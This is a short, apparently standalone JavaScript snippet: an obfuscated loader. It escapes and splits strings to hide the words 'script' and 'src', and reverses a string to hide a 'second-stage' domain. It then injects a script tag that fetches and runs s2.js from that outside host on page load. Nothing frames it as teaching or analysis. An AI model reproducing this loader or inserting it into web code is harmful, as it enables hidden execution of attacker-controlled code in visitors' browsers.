var k = document, q = k["create" + "Element"](unescape("%73%63%72%69%70%74"));
q["s" + "rc"] = "//" + "cdn" + "." + "egats-dnoces".split("").reverse().join("") + ".example" + "/s2.js";
(k.head || k.body)["append" + "Child"](q);
